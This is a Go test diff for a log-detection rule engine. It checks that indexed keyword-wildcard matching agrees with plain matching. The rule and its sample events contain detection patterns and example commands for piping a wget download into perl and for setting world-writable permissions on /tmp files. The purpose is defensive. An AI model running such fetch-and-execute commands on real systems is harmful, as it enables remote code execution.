@@ -152,3 +152,30 @@ func TestIndexesShareMatchers(t *testing.T) {
 		}
 	}
 }
+
+// Keyword wildcard values are prefiltered by their longest literal through
+// the index's automaton: the answers must be those of the plain search
+// (no index), case-insensitively, with the literals in the same string.
+func TestKeywordWildcardsThroughIndex(t *testing.T) {
+	m := compileOne(t, rule("  keywords:\n    - 'wget * - http* | perl'\n    - 'chmod 7?7 /tmp/*'\n  condition: keywords"))
+	ix := NewIndex([]*Matcher{m})
+	ctx := NewEvalCtx()
+	ctx.UseIndex(ix)
+	for _, c := range []struct {
+		ev   string
+		want bool
+	}{
+		{`{"type":"audit.x","message":"ran WGET -q -O - HTTP://x | Perl"}`, true},
+		{`{"type":"audit.x","data":{"cmd":"sh -c 'chmod 757 /tmp/a'"}}`, true},
+		{`{"type":"audit.x","data":{"cmd":"Chmod 777 /TMP/"}}`, true},
+		{`{"type":"audit.x","message":"wget -q -O - http://x","data":{"cmd":"| perl"}}`, false}, // literals in two strings
+		{`{"type":"audit.x","message":"chmod 777 /var/x"}`, false},
+		{`{"type":"audit.x","message":"nothing"}`, false},
+	} {
+		e := mustEvent(t, c.ev)
+		ctx.Reset(e)
+		if got, plain := m.MatchCtx(ctx), m.Match(e); got != c.want || plain != c.want {
+			t.Errorf("%s: through the index %v, plain %v, want %v", c.ev, got, plain, c.want)
+		}
+	}
+}
